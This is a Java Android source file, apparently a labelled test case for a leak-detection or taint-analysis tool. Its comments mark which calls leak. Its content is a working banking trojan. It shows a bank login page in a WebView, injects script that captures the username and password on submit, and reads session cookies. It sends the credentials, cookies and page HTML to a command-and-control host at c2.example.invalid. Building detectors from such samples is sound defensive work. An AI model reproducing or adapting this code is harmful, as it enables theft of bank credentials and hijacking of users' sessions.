package trojans;

import android.app.Activity;
import android.os.Bundle;
import android.webkit.CookieManager;
import android.webkit.JavascriptInterface;
import android.webkit.WebView;
import android.webkit.WebViewClient;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** A page of a bank shown in the app, with a script that hands over what is typed there. */
public class Bridge extends Activity {
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WebView page = new WebView(this);
        page.getSettings().setJavaScriptEnabled(true);
        page.addJavascriptInterface(new Hook(), "hook");
        page.setWebViewClient(new WebViewClient() {
            @Override
            public void onPageFinished(WebView view, String url) {
                view.loadUrl("javascript:document.forms[0].onsubmit=function(){hook.typed(this.u.value,this.p.value)}");
                String cookies = CookieManager.getInstance().getCookie(url);
                new Thread(() -> post("c=" + cookies)).start();
                visited(url);
            }
        });
        page.loadUrl("https://bank.example.invalid/login");
        setContentView(page);
    }

    static class Hook {
        private String kept;

        @JavascriptInterface
        public void typed(final String user, final String password) {
            new Thread(() -> said(user + ":" + password)).start();
        }

        @JavascriptInterface
        public void html(String text) {
            kept = text;
        }

        @JavascriptInterface
        public int version() {
            new Thread(() -> later(kept)).start();
            return 3;
        }

        public void unseen(String text) {
            android.util.Log.i("hook", text); // no leak
        }
    }

    private static OutputStream line() throws Exception {
        return ((HttpURLConnection) new URL("http://c2.example.invalid/w").openConnection()).getOutputStream();
    }

    static void post(String what) {
        try {
            line().write(what.getBytes()); // leak
        } catch (Exception e) {
            return;
        }
    }

    static void said(String what) {
        try {
            line().write(what.getBytes()); // leak
        } catch (Exception e) {
            return;
        }
    }

    static void later(String what) {
        try {
            line().write(what.getBytes()); // one that is not seen: no script of the app says what is handed over
        } catch (Exception e) {
            return;
        }
    }

    static void visited(String url) {
        String deleted = CookieManager.getInstance().getCookie(url);
        if (deleted != null) {
            for (String one : deleted.split(";")) {
                CookieManager.getInstance().setCookie(url, one.split("=")[0].trim() + "=; Max-Age=0"); // leak, as it seems: the name of a cookie that is deleted
            }
        }
    }
}
